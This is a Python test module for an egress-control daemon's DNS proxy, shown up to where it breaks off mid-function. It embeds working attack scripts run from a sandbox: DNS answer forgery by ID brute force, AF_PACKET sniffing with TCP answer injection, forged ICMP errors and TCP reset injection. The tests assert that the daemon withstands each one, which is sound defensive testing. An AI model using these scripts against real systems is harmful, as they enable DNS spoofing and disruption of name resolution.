"""The DNS half of issue 14 ("Enforcement integrity"): attacks a process in the sandbox can make
on egressd's DNS, performed as that process would, against the real kernel.

The attacker runs in the sandbox namespace as uid 65534 with no capability, or as root with only
Docker's default NET_RAW and NET_BIND_SERVICE (setpriv), with Docker's
`net.ipv4.ip_unprivileged_port_start=0` where it matters:

  class 2   forged upstream answers: brute-forcing the ID against the port read from
            /proc/net/udp, with raw IP (NET_RAW) or an IPv6 FREEBIND socket (no capability),
            teaches egressd nothing; a 2^31 TTL is capped (dns.max_ttl);
  class 3   a loopback upstream (Docker's 127.0.0.11, emulated: a resolver on 127.0.0.11:<random>
            behind Docker's DNAT) is owned by egressd on port 53, and cannot be hijacked after DNS
            was idle (a flow pre-created from 127.0.0.11:53);
  class 7   learn guards: broadcast, multicast, 240/4, NAT64/6to4/mapped forms; private ranges not
            learned from wildcard matches unless dns.private_answers: allow; explain and the
            rebinding_guard event name the guard;
  class 8   a query with extra records and EDNS options reaches the upstream rebuilt and bare;
  class 10  port 53 squatted while egressd was down: egressd comes up on another port, enforces,
            answers DNS and its control socket;
  Docker    allowlisted names and Compose service names resolve through Docker's resolver with
            no loop; no-network refuses and the upstream sees nothing; the forwarder target is
            pinned (probe, or resolv.conf's ExtServers) and survives a restart; a copy of
            egressd's in-flight query is relayed to that target only; a task that holds the
            proxy's TCP slots while it answers the probe, or copies egressd's queries after a
            probe that saw none, gets no target of its own pinned.

Every name carries a random label. Nothing is sent anywhere but documentation addresses.
"""
import json
import os
import random
import re
import signal
import socket
import struct
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

import lab as labmod
from lab import DEFAULT_CNAMES, DEFAULT_HOSTS, DNS_V4, DNS_V6
from hostside_resolver import DIRECT_QUERY, HostSideResolver, asked

HERE = Path(__file__).resolve().parent
WILD_V4, WILD_V6 = "203.0.113.10", "2001:db8:3::10"
FORGED_V4, FORGED_V6 = "203.0.113.66", "2001:db8:3::66"  # the attacker's "answer": reachable in the lab
SILENT_V4, SILENT_V6 = "198.51.100.99", "2001:db8:2::99"  # routed to the internet side, never answered
NOBODY = ("--reuid=65534", "--regid=65534", "--clear-groups")
DOCKER_CAPS = "-all,+net_raw,+net_bind_service"
FAST = 0.5


def tok(prefix: str = "t") -> str:
    return f"{prefix}{random.getrandbits(40):010x}"


def policy(upstream, hosts=("*.wild.example.org",), dns: str = "", extra: str = "") -> str:
    ups = ", ".join(json.dumps(u) for u in ([upstream] if isinstance(upstream, str) else upstream))
    return f"""\
initial_phase: agent
dns: {{ upstream: [{ups}]{', ' + dns if dns else ''} }}
phases:
  environment: public
  agent:
    network_mode: allowlist
    allowed_hosts: [{', '.join(json.dumps(h) for h in hosts)}]
  verifier: {{ network_mode: no-network }}
{extra}"""


def serve(lab, hosts=None, wildcards=None, **kw):
    lab.dns.restart(hosts={**DEFAULT_HOSTS, **(hosts or {})}, cnames=DEFAULT_CNAMES,
                    wildcards={"wild.example.org": [WILD_V4, WILD_V6], **(wildcards or {})}, **kw)


def rejected(out) -> bool:
    return out in ("refused", "unreachable") and out.elapsed < FAST


def attacker(lab, script: str, *args, uid: bool = False, caps: str = "-all") -> subprocess.Popen:
    """A process in the sandbox: uid 65534 (uid=True) or root, with only `caps`. It prints READY
    once set up and one JSON line when done. This directory is on its PYTHONPATH: a script
    read from a file here imports its neighbours (rawtcp) as if it ran from it."""
    ids = list(NOBODY) if uid else []
    ambient = [f"--ambient-caps={caps}"] if uid and caps != "-all" else []
    p = lab.spawn(["env", f"PYTHONPATH={HERE}",
                   "setpriv", *ids, f"--inh-caps={caps}", *ambient, f"--bounding-set={caps}", "--",
                   sys.executable, "-c", script, *map(str, args)],
                  netns=lab.sandbox, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    line = labmod._read_line(p, 10.0, "the attacker")
    assert line == "READY", line
    return p


def attacker_result(p: subprocess.Popen, timeout: float = 30.0) -> dict:
    out, err = p.communicate(timeout=timeout)
    assert p.returncode == 0, err.decode(errors="replace")
    out = getattr(p, "_lab_pending", b"") + out  # what _read_line read past READY
    return json.loads(out.decode().strip().splitlines()[-1])


def dns_events(d, name: str) -> list[dict]:
    """The DNS proxy's log lines `event=name k=v k="v w" ...` (a daemon logging JSON), as dicts."""
    out = []
    for line in d.log().splitlines():
        if not line.startswith("{"):
            continue
        try:
            msg = json.loads(line).get("message", "")
        except json.JSONDecodeError:
            continue
        if msg == f"event={name}" or msg.startswith(f"event={name} "):
            out.append({k: v[1:-1] if v.startswith('"') else v
                        for k, v in re.findall(r'(\w+)=("(?:[^"\\]|\\.)*"|\S*)', msg)})
    return out


def ask(lab, names: list[str]) -> list[tuple[str, list[str]]]:
    """(rcode, addresses) of each name, asked one after the other from the sandbox."""
    return [(r.rcode, r.addresses) for r in (lab.dns_query(n, timeout=3.0) for n in names)]


def events(d, name: str) -> list[dict]:
    """Audit events `name` from a daemon logging JSON."""
    out = []
    for line in d.log().splitlines():
        if line.startswith("{"):
            try:
                e = json.loads(line)
            except json.JSONDecodeError:
                continue
            if e.get("event") == name:
                out.append(e)
    return out


# --- class 2: forged upstream answers ---------------------------------------------------------

# Brute-forces the ID of egressd's upstream query: watches /proc/net/udp[6] for a socket connected
# to the upstream's port 53, then sends the upstream's "answer" (the allowed name, lower-case as a
# blind forger must write it, A FORGED with TTL 2^31-1) with every ID in turn, again and again,
# to every such port it finds, until `seconds` pass. mode raw4: raw IPv4 (CAP_NET_RAW);
# freebind6: an IPv6 UDP socket bound to the upstream's address with IPV6_FREEBIND (no capability;
# port 53 is bindable because ip_unprivileged_port_start is 0, as under Docker).
BRUTE = textwrap.dedent(r'''
    import json, random, socket, struct, sys, time
    mode, upstream, name, forged, seconds = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5])
    v6 = mode == "freebind6"
    def proc_addr(text):
        ip, port = text.split(":")
        raw = bytes.fromhex(ip)
        # the kernel prints each 32-bit word in host (little-endian) order
        raw = b"".join(raw[i:i + 4][::-1] for i in range(0, len(raw), 4))
        return socket.inet_ntop(socket.AF_INET6 if v6 else socket.AF_INET, raw), int(port, 16)
    def targets():
        out = set()
        with open("/proc/net/udp6" if v6 else "/proc/net/udp") as f:
            next(f)
            for line in f:
                p = line.split()
                local, remote = proc_addr(p[1]), proc_addr(p[2])
                if remote == (upstream, 53):
                    out.add(local)
        return out
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.lower().split(".")) + b"\0"
    rdata = socket.inet_pton(socket.AF_INET, forged)
    payload = bytearray(struct.pack("!HHHHHH", 0, 0x8180, 1, 1, 0, 0) + qname + struct.pack("!HH", 1, 1)
                        + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 0x7FFFFFFF, 4) + rdata)
    if v6:
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND: no capability needed
        s.bind((upstream, 53))
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # CAP_NET_RAW
    s.setblocking(False)
    print("READY", flush=True)
    ports, sent, sweeps = set(), 0, 0
    deadline = time.monotonic() + seconds
    ids = list(range(65536))
    while time.monotonic() < deadline:
        for local, port in targets():
            ports.add(port)
            random.shuffle(ids)
            if v6:
                pkt, off, dst = payload, 0, (local, port)
            else:
                udp = struct.pack("!HHHH", 53, port, 8 + len(payload), 0)  # checksum 0: none (IPv4)
                ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0, 0, 64, 17, 0,
                                 socket.inet_aton(upstream), socket.inet_aton(local))
                pkt, off, dst = bytearray(ip + udp + payload), 28, (local, 0)
            for qid in ids:
                struct.pack_into("!H", pkt, off, qid)
                try:
                    s.sendto(pkt, dst)
                    sent += 1
                except (BlockingIOError, OSError):
                    pass
                if time.monotonic() > deadline:
                    break
            sweeps += 1
    print(json.dumps({"ports": sorted(ports), "sent": sent, "sweeps": sweeps}))
''')


@pytest.mark.parametrize("how", ["raw4-net_raw", "freebind6-nobody"])
@pytest.mark.parametrize("phase", ["agent", "verifier"], ids=["allowlist", "no-network"])
def test_forged_upstream_answers_teach_nothing(lab, egressd, how, phase):
    """The upstream never answers; the attacker has the whole query lifetime to guess the ID. A
    forged answer must never be learned (nor reach the client as an address): egressd takes only
    an answer that echoes its query's 0x20 case exactly, on a socket that lives for one query."""
    v6 = how.startswith("freebind6")
    upstream = SILENT_V6 if v6 else SILENT_V4
    forged = FORGED_V4
    lab.add_servers([forged])
    serve(lab)
    d = egressd(policy(upstream), phase=phase)
    name_of = lambda i: f"q{i}.{t}.wild.example.org"  # noqa: E731
    t = tok()
    if v6:
        lab.sandbox.sysctl("net.ipv4.ip_unprivileged_port_start", 0)  # as Docker sets it
        p = attacker(lab, BRUTE, "freebind6", upstream, name_of(0), forged, 6.0, uid=True)
    else:
        p = attacker(lab, BRUTE, "raw4", upstream, name_of(0), forged, 6.0, caps=DOCKER_CAPS)
    answers = []
    for i in range(3):  # three queries: three lifetimes to attack
        r = lab.dns_query(name_of(0), timeout=3.0)
        answers.append((r.outcome, r.rcode, r.addresses))
    res = attacker_result(p)
    print(f"\nattacker ({how}, {phase}): {res['sent']} forged answers in {res['sweeps']} sweeps over ports "
          f"{res['ports'][:8]}; answers {answers}")
    if phase == "agent":
        assert res["ports"] and res["sweeps"] > 0, f"the attack never found egressd's upstream socket: {res}"
        for outcome, rcode, addrs in answers:
            assert forged not in addrs, f"a forged answer reached the client: {answers}"
    else:
        assert all(rcode == "REFUSED" for _, rcode, _ in answers), answers
    assert forged not in lab.learned_set(4), "egressd learned the forged address"
    assert rejected(lab.tcp_connect(forged, labmod.ECHO_PORT)), "the forged address is reachable"
    names = {e["name"]: e for e in d.ctl_json("status", "--json")["learned"]}
    assert name_of(0) not in names, names


# An upstream that answers every UDP query truncated (TC, no records), so egressd asks again over
# TCP, and answers over TCP only after `delay` seconds (a slow recursive resolver), with `real`.
# argv: address, real answer, delay.
SLOW_TCP_UPSTREAM = textwrap.dedent(r'''
    import socket, struct, sys, threading, time
    addr, real, delay = sys.argv[1], sys.argv[2], float(sys.argv[3])
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    def question_end(q):
        i = 12
        while q[i]:
            i += 1 + q[i]
        return i + 5
    def answer(q, truncated):
        end = question_end(q)
        if truncated:
            return q[:2] + b"\x83\x80\x00\x01\x00\x00\x00\x00\x00\x00" + q[12:end]
        return (q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:end] + b"\xc0\x0c"
                + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(real))
    u = socket.socket(fam, socket.SOCK_DGRAM)
    u.bind((addr, 53))
    t = socket.socket(fam, socket.SOCK_STREAM)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind((addr, 53))
    t.listen(16)
    def udp():
        while True:
            q, peer = u.recvfrom(4096)
            u.sendto(answer(q, True), peer)
    def serve(c):
        with c:
            n = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
            q = c.recv(n, socket.MSG_WAITALL)
            time.sleep(delay)
            a = answer(q, False)
            c.sendall(struct.pack("!H", len(a)) + a)
            c.recv(1)
    threading.Thread(target=udp, daemon=True).start()
    print("READY", flush=True)
    while True:
        c, _ = t.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()
''')

# A root process with only NET_RAW (Docker's default): sniffs eth0 (AF_PACKET) for egressd's
# TCP exchange with the upstream, and as soon as egressd's query has gone out, answers it
# from the upstream's address with the next sequence numbers, the query's ID and exact
# question (0x20 case included) and A `forged`, over a raw socket: the segment goes to the
# sandbox's own address, over lo. argv: upstream, sandbox address, forged, seconds, and
# optionally "reset": instead of an answer, an in-window ACK on egressd's flow from egressd's
# own address and port to the upstream, whose acknowledgment number is the one egressd's
# socket expects next: the deny refuses it (a sandbox process may not send to the upstream),
# and reject's reset for it, from the upstream's address over lo, would carry exactly that
# sequence number to egressd's socket.
# The start of both raw-socket attackers below: argv[1] the upstream, argv[2] the sandbox's
# address; an AF_PACKET socket on eth0 (lo for a loopback upstream) that sees both directions,
# a raw socket that writes whole IP packets (v6 too), the Internet checksum, an IP header, and
# send() for a TCP segment.
SNIFF_AND_FORGE = textwrap.dedent(r'''
    import json, socket, struct, sys, time
    upstream, me = sys.argv[1], sys.argv[2]
    v6 = ":" in upstream
    fam = socket.AF_INET6 if v6 else socket.AF_INET
    up, mine = socket.inet_pton(fam, upstream), socket.inet_pton(fam, me)
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))  # both ways, no link header
    sniff.bind(("lo" if socket.inet_pton(fam, upstream)[0] == 127 or upstream == "::1" else "eth0", 0))
    sniff.settimeout(0.05)
    raw = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)  # the whole IP header is ours (v6 too)
    def csum(b):
        if len(b) % 2:
            b += b"\0"
        s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
        while s >> 16:
            s = (s & 0xFFFF) + (s >> 16)
        return ~s & 0xFFFF
    def ip(src, dst, proto, body):
        """`body` behind an IPv4 or IPv6 header from src to dst."""
        if v6:
            return struct.pack("!IHBB", 6 << 28, len(body), proto, 64) + src + dst + body
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0x4000, 64, proto, 0, src, dst) + body
    def send(src, dst, seg, to):
        """The TCP segment `seg` (checksum 0) from src to dst over the raw socket: 0 when sent,
        1 when a deny in chain output refused it (the segment went nowhere)."""
        pseudo = src + dst + (struct.pack("!I3xB", len(seg), 6) if v6 else struct.pack("!BBH", 0, 6, len(seg)))
        seg = seg[:16] + struct.pack("!H", csum(pseudo + seg)) + seg[18:]
        try:
            raw.sendto(ip(src, dst, 6, seg), (to, 0))
            return 0
        except PermissionError:
            return 1
    def sniffed(seconds):
        """Every packet the AF_PACKET socket sees for `seconds`."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                yield sniff.recv(65535)
            except socket.timeout:
                continue
''')

TCP_INJECT = SNIFF_AND_FORGE + textwrap.dedent(r'''
    forged, seconds = sys.argv[3], float(sys.argv[4])
    reset = sys.argv[5:] == ["reset"]
    def ts_option(tcp):
        off, end = 20, (tcp[12] >> 4) * 4
        while off < end:
            kind = tcp[off]
            if kind == 0:
                break
            if kind == 1:
                off += 1
                continue
            if kind == 8:
                return struct.unpack_from("!II", tcp, off + 2)
            off += tcp[off + 1]
        return None
    print("READY", flush=True)
    server_isn, server_ts, forged_n, seen, refused = {}, {}, 0, 0, 0
    for pkt in sniffed(seconds):
        if v6:
            if len(pkt) < 60 or pkt[0] >> 4 != 6 or pkt[6] != 6:
                continue
            src, dst, tcp = pkt[8:24], pkt[24:40], pkt[40:40 + struct.unpack_from("!H", pkt, 4)[0]]
        else:
            if len(pkt) < 40 or pkt[0] >> 4 != 4 or pkt[9] != 6:
                continue
            ihl = (pkt[0] & 0xF) * 4
            src, dst, tcp = pkt[12:16], pkt[16:20], pkt[ihl:struct.unpack_from("!H", pkt, 2)[0]]
        sport, dport, seq, ack = struct.unpack_from("!HHII", tcp)
        flags = tcp[13]
        data = tcp[(tcp[12] >> 4) * 4:]
        if src == up and sport == 53 and flags & 0x12 == 0x12:  # SYN-ACK to egressd
            server_isn[dport] = seq
            server_ts[dport] = ts_option(tcp)
        elif dst == up and dport == 53 and len(data) > 14 and sport in server_isn:
            seen += 1
            if reset:  # refused by the deny, which answers with a reset from the upstream's address
                refused += send(mine, up, struct.pack("!HHIIBBHHH", sport, 53, seq + len(data),
                                                      server_isn[sport] + 1, 5 << 4, 0x10, 65535, 0, 0), upstream)
                forged_n += 1
                del server_isn[sport]
                continue
            q = data[2:]
            i = 12
            while q[i]:
                i += 1 + q[i]
            a = (q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5] + b"\xc0\x0c"
                 + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(forged))
            payload = struct.pack("!H", len(a)) + a
            opts = b""
            theirs, ours = server_ts[sport], ts_option(tcp)
            if theirs and ours:
                opts = b"\x01\x01\x08\x0a" + struct.pack("!II", theirs[0] + 1, ours[0])
            hdr_len = 20 + len(opts)
            seg = struct.pack("!HHIIBBHHH", 53, sport, server_isn[sport] + 1, seq + len(data), (hdr_len // 4) << 4,
                              0x18, 65535, 0, 0) + opts + payload
            refused += send(up, mine, seg, me)
            forged_n += 1
            del server_isn[sport]
    print(json.dumps({"queries_seen": seen, "forged": forged_n, "refused_locally": refused}))
''')


def sniffing_attack(lab, egressd, family: int, slow_upstream: str, script: str, *args) -> tuple:
    """`slow_upstream` (a script answering A WILD_V4 0.3 s late) in the internet namespace,
    egressd asking it over `family`, `script` (argv: upstream, sandbox address, *args) running
    in the sandbox with Docker's capabilities while the sandbox asks two names. Returns
    (egressd, the attacker's result, the two DnsReplies)."""
    upstream = "198.51.100.98" if family == 4 else "2001:db8:2::98"
    me = labmod.SANDBOX_V4 if family == 4 else labmod.SANDBOX_V6
    lab.internet.ip("addr", "add", f"{upstream}/32" if family == 4 else f"{upstream}/128", "dev", "lo",
                    *([] if family == 4 else ["nodad"]))
    slow = lab.spawn([sys.executable, "-c", slow_upstream, upstream, WILD_V4, "0.3"], netns=lab.internet,
                     stdout=subprocess.PIPE)
    assert labmod._read_line(slow, 10.0, "the slow upstream") == "READY"
    d = egressd(policy(upstream))
    p = attacker(lab, script, upstream, me, *args, caps=DOCKER_CAPS)
    t = tok()
    replies = [lab.dns_query(f"h{i}.{t}.wild.example.org", timeout=3.0) for i in range(2)]
    return d, attacker_result(p), replies


def tcp_inject(lab, egressd, family: int, *mode: str):
    """sniffing_attack with SLOW_TCP_UPSTREAM (it truncates over UDP, answers over TCP) and
    TCP_INJECT in `mode`; the answers as (outcome, rcode, addresses)."""
    d, res, replies = sniffing_attack(lab, egressd, family, SLOW_TCP_UPSTREAM, TCP_INJECT, FORGED_V4, 4.0, *mode)
    return d, res, [(r.outcome, r.rcode, r.addresses) for r in replies]


@pytest.mark.parametrize("family", [4, 6])
def test_egressds_tcp_exchange_with_the_upstream_takes_no_injected_answer(lab, egressd, family):
    """egressd falls back to TCP when the upstream truncates. A sandbox process with NET_RAW sees
    that exchange on eth0 (AF_PACKET) and answers egressd's query before the upstream does,
    from the upstream's address, with the right sequence numbers, ID and question, and sends it
    to the sandbox's own address, where egressd's socket is. That segment travels over lo in the
    reply direction of egressd's flow; the ruleset must not let it reach egressd's socket (it is
    not a reset netfilter made, the one shape from a foreign source `lo` carries on a confirmed
    flow)."""
    lab.add_servers([FORGED_V4])
    d, res, answers = tcp_inject(lab, egressd, family)
    print(f"\nTCP injection: {res}; answers {answers}")
    assert res["forged"] >= 2, f"the attack never saw egressd's TCP query: {res}"
    assert all(FORGED_V4 not in a for _, _, a in answers), f"an injected answer reached the client: {answers}"
    assert all(a == [WILD_V4] for _, _, a in answers), f"the upstream's answer did not arrive: {answers}"
    assert FORGED_V4 not in lab.learned_set(4), "egressd learned the injected address"
    assert rejected(lab.tcp_connect(FORGED_V4, labmod.ECHO_PORT)), "the injected address is reachable"
    assert d.running


@pytest.mark.parametrize("family", [4, 6])
def test_a_sandbox_cannot_aim_rejects_reset_at_egressds_upstream_socket(lab, egressd, family):
    """Chains output and input let reject's reset for a packet of a confirmed flow through lo
    (conntrack relates it to the flow), so a flow a switch cuts fails at once. A sandbox process
    with NET_RAW can make the deny answer a packet it forged on egressd's own TCP flow to the
    upstream, with the acknowledgment number egressd's socket expects next (seen on eth0): that
    reset would reach egressd's socket and kill the query. egressd's own flows' resets stay
    dropped: the query gets the upstream's answer."""
    d, res, answers = tcp_inject(lab, egressd, family, "reset")
    print(f"\nreset aimed at egressd's upstream socket: {res}; answers {answers}")
    assert res["forged"] >= 2 and res["refused_locally"] == res["forged"], \
        f"the attack never made the deny answer a packet of egressd's flow: {res}"
    assert all(a == [WILD_V4] for _, _, a in answers), f"egressd's exchange with the upstream was cut: {answers}"
    assert d.running


# An upstream that answers every UDP query 0.3 s late (A WILD_V4): time for an attacker to act.
SLOW_UDP_UPSTREAM = textwrap.dedent(r"""
    import socket, struct, sys, threading, time
    addr, real, delay = sys.argv[1], sys.argv[2], float(sys.argv[3])
    u = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((addr, 53))
    def later(q, peer):
        time.sleep(delay)
        i = 12
        while q[i]:
            i += 1 + q[i]
        u.sendto(q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5] + b"\xc0\x0c"
                 + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(real), peer)
    print("READY", flush=True)
    while True:
        q, peer = u.recvfrom(4096)
        threading.Thread(target=later, args=(q, peer), daemon=True).start()
""")

# A root process with only NET_RAW (Docker's default): sniffs eth0 (lo for a loopback upstream)
# for egressd's UDP queries to the upstream and, for each, either ("reject") sends a datagram
# of its own on egressd's flow (from egressd's address and port to the upstream's port 53: the
# deny refuses it and answers with an ICMP error to egressd's socket) or ("icmp") writes that
# ICMP error itself (port unreachable, from the sandbox's own address, quoting egressd's query
# as seen); "icmp-port-53" quotes it with destination port 53, as egressd's socket knows a flow
# Docker's resolver DNATs to another port. argv: upstream, own address, seconds, mode.
UDP_ERROR_INJECT = SNIFF_AND_FORGE + textwrap.dedent(r"""
    seconds, mode = float(sys.argv[3]), sys.argv[4]
    print("READY", flush=True)
    seen = sent = refused = 0
    for pkt in sniffed(seconds):
        hdr = 40 if v6 else (pkt[0] & 0xF) * 4
        if len(pkt) < hdr + 8 or pkt[0] >> 4 != (6 if v6 else 4) or pkt[6 if v6 else 9] != 17:
            continue
        src, dst = (pkt[8:24], pkt[24:40]) if v6 else (pkt[12:16], pkt[16:20])
        sport, dport = struct.unpack_from("!HH", pkt, hdr)
        if src != mine or dst != up:
            continue
        seen += 1
        if mode == "reject":
            to, packet = upstream, ip(mine, up, 17, struct.pack("!HHHH", sport, 53, 20, 0) + b"x" * 12)
        else:
            quoted = pkt[:hdr + 8]
            if mode == "icmp-port-53":
                quoted = quoted[:hdr + 2] + struct.pack("!H", 53) + quoted[hdr + 4:]
            body = struct.pack("!BBHI", 1 if v6 else 3, 4 if v6 else 3, 0, 0) + quoted
            pseudo = mine + mine + struct.pack("!I3xB", len(body), 58) if v6 else b""
            body = body[:2] + struct.pack("!H", csum(pseudo + body)) + body[4:]
            to, packet = me, ip(mine, mine, 58 if v6 else 1, body)
        try:
            raw.sendto(packet, (to, 0))
            sent += 1
        except PermissionError:
            refused += 1
    print(json.dumps({"queries_seen": seen, "sent": sent, "refused_locally": refused}))
""")


@pytest.mark.parametrize("mode", ["reject", "icmp"])
@pytest.mark.parametrize("family", [4, 6])
def test_a_sandbox_cannot_fail_egressds_upstream_queries_with_icmp_errors(lab, egressd, family, mode):
    """A sandbox process with NET_RAW (Docker's default) sees egressd's UDP query to the upstream
    on eth0 and makes an ICMP error arrive at egressd's upstream socket before the answer: the
    deny's own, for a datagram it forged on egressd's flow ("reject"), or one it writes from the
    sandbox's address quoting the query ("icmp"). Either reached the socket over lo, related to
    egressd's flow, and failed the query at once: SERVFAIL for every name, IPv4 and IPv6. What
    conntrack relates to egressd's own flows on lo is dropped: the answers arrive."""
    d, res, answers = sniffing_attack(lab, egressd, family, SLOW_UDP_UPSTREAM, UDP_ERROR_INJECT, 4.0, mode)
    print(f"\nICMP errors ({mode}) at egressd's upstream socket: {res}; answers {answers}")
    assert res["queries_seen"] >= 2 and res["sent"] + res["refused_locally"] == res["queries_seen"], res
    assert [(r.rcode, r.addresses) for r in answers] == [("NOERROR", [WILD_V4])] * 2, \
        f"egressd's upstream queries were failed by forged ICMP errors: {answers}; log:\n{d.log()[-1500:]}"
    assert d.running


@pytest.mark.parametrize("mode", ["reject", "icmp", "icmp-port-53"])
def test_a_sandbox_cannot_fail_egressds_queries_to_dockers_resolver_with_icmp_errors(lab, egressd, mode):
    """The same against Docker's resolver (emulated: 127.0.0.11, DNAT to its real port, slow
    for names starting with "slow"), sniffed on lo. "icmp-port-53" quotes egressd's query with
    the port egressd's socket knows (53), not the one on the wire: conntrack relates that error
    to no flow, and the kernel delivered it to egressd's socket all the same."""
    DockerResolver(lab, slow={"slow": 300})
    d = docker_egressd(lab, egressd)
    p = attacker(lab, UDP_ERROR_INJECT, "127.0.0.11", "127.0.0.1", 4.0, mode, caps=DOCKER_CAPS)
    t = tok()
    answers = [lab.dns_query(f"slow{i}.{t}.wild.example.org", timeout=3.0) for i in range(2)]
    res = attacker_result(p)
    print(f"\nICMP errors ({mode}) at egressd's socket to Docker's resolver: {res}; answers {answers}")
    assert res["queries_seen"] >= 2 and res["sent"] + res["refused_locally"] == res["queries_seen"], res
    assert [(r.rcode, r.addresses) for r in answers] == [("NOERROR", [WILD_V4])] * 2, \
        f"egressd's queries to Docker's resolver were failed by forged ICMP errors: {answers}"
    assert d.running


# A root process with only NET_RAW: sniffs lo for egressd's TCP exchange with Docker's resolver
# (127.0.0.1:<port> <-> 127.0.0.11:<its real port>, after the DNAT) and, once egressd's query is
# out, resets egressd's socket from 127.0.0.11:53, the port egressd's socket knows, with the
# sequence number it expects next (the resolver's SYN-ACK + 1). argv: upstream, own, seconds.
TCP_RESET_PORT_53 = SNIFF_AND_FORGE + textwrap.dedent(r"""
    seconds = float(sys.argv[3])
    print("READY", flush=True)
    isn, seen, sent, refused = {}, 0, 0, 0
    for pkt in sniffed(seconds):
        if len(pkt) < 40 or pkt[0] >> 4 != 4 or pkt[9] != 6:
            continue
        ihl = (pkt[0] & 0xF) * 4
        src, dst, tcp = pkt[12:16], pkt[16:20], pkt[ihl:struct.unpack_from("!H", pkt, 2)[0]]
        sport, dport, seq = struct.unpack_from("!HHI", tcp)
        if src == up and dst == mine and tcp[13] & 0x12 == 0x12:  # the resolver's SYN-ACK
            isn[dport] = seq
        elif src == mine and dst == up and len(tcp) > (tcp[12] >> 4) * 4 and sport in isn:  # the query
            seen += 1
            seg = struct.pack("!HHIIBBHHH", 53, sport, isn.pop(sport) + 1, 0, 5 << 4, 0x04, 0, 0, 0)
            no = send(up, mine, seg, me)
            sent, refused = sent + 1 - no, refused + no
    print(json.dumps({"queries_seen": seen, "sent": sent, "refused_locally": refused}))
""")


def test_a_sandbox_cannot_reset_egressds_tcp_query_to_dockers_resolver(lab, egressd):
    """egressd asks Docker's resolver again over TCP when its UDP answer is truncated. A process
    with NET_RAW sees that exchange on lo and sends egressd's socket a reset from 127.0.0.11:53,
    the port egressd's socket knows (the flow went out DNATed to another): conntrack knows no
    such flow (`ct state invalid`), and the kernel would deliver the reset to the socket it
    names, killing the query. Nothing conntrack does not know reaches egressd's upstream
    sockets: the queries are answered."""
    DockerResolver(lab, slow={"slow": 300}, truncate="slow")
    d = docker_egressd(lab, egressd)
    p = attacker(lab, TCP_RESET_PORT_53, "127.0.0.11", "127.0.0.1", 4.0, caps=DOCKER_CAPS)
    t = tok()
    answers = [lab.dns_query(f"slow{i}.{t}.wild.example.org", timeout=3.0) for i in range(2)]
    res = attacker_result(p)
    print(f"\nreset from 127.0.0.11:53 at egressd's TCP query: {res}; answers {answers}")
    assert res["queries_seen"] >= 2, f"the attacker saw none of egressd's TCP queries: {res}"
    assert [(r.rcode, r.addresses) for r in answers] == [("NOERROR", [WILD_V4])] * 2, \
        f"egressd's TCP queries to Docker's resolver were reset: {answers}"
    assert d.running


def test_ttl_of_2_pow_31_is_capped(lab, egressd):
    """An upstream (or whoever runs an allowed wildcard's zone) answers with TTL 2^31-1: the
    learned element lives dns.max_ttl (default 1 h) + 10 s, the client sees at most max_ttl, and a
    smaller max_ttl caps both."""
    serve(lab, ttl=2147483647)
    d = egressd(policy(DNS_V4))
    name = f"{tok()}.wild.example.org"
    r = lab.dns_query(name)
    assert r.rcode == "NOERROR" and r.addresses == [WILD_V4], r
    assert r.ttl(WILD_V4) == 3600, r.records
    assert lab.learned_set(4)[WILD_V4]["timeout"] == 3610
    d.restart(config=lab.write_config(policy(DNS_V4, dns="max_ttl: 5m"), "max.yaml"))
    r = lab.dns_query(f"{tok()}.wild.example.org", "AAAA")
    assert r.ttl(WILD_V6) == 300, r.records
    assert lab.learned_set(6)[WILD_V6]["timeout"] == 310


# --- class 8: the forwarded query -----------------------------------------------------------------

RECORDER = "198.51.100.53"


def start_recorder(lab) -> Path:
    log = lab.tmp / f"recorder-{random.getrandbits(24):06x}.jsonl"
    lab.internet.ip("addr", "add", f"{RECORDER}/32", "dev", "lo")
    p = lab.spawn([sys.executable, str(HERE / "dnsserver.py"), "record", "--addr", RECORDER, "--port", 53, "--answer", WILD_V4,
                   "--log", str(log)], netns=lab.internet, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                  stderr=subprocess.PIPE)
    assert labmod._read_line(p, 10.0, "the recording DNS server").startswith("READY")
    return log


def recorded(log: Path, token: str) -> list[bytes]:
    if not log.exists():
        return []
    out = []
    for line in log.read_text().splitlines():
        e = json.loads(line)
        if e.get("kind") == "query" and token in e["name"]:
            out.append(bytes.fromhex(e["hex"]))
    return out


def ask_raw(lab, q: bytes, transport: str) -> bytes:
    """The reply to the query bytes `q`, sent as they are from the sandbox to port 53 (the
    redirect takes them to the proxy), over UDP or TCP."""
    s = lab.sandbox.socket(socket.AF_INET, socket.SOCK_STREAM if transport == "tcp" else socket.SOCK_DGRAM)
    with s:
        s.settimeout(3)
        s.connect((DNS_V4, 53))
        if transport == "tcp":
            s.sendall(struct.pack("!H", len(q)) + q)
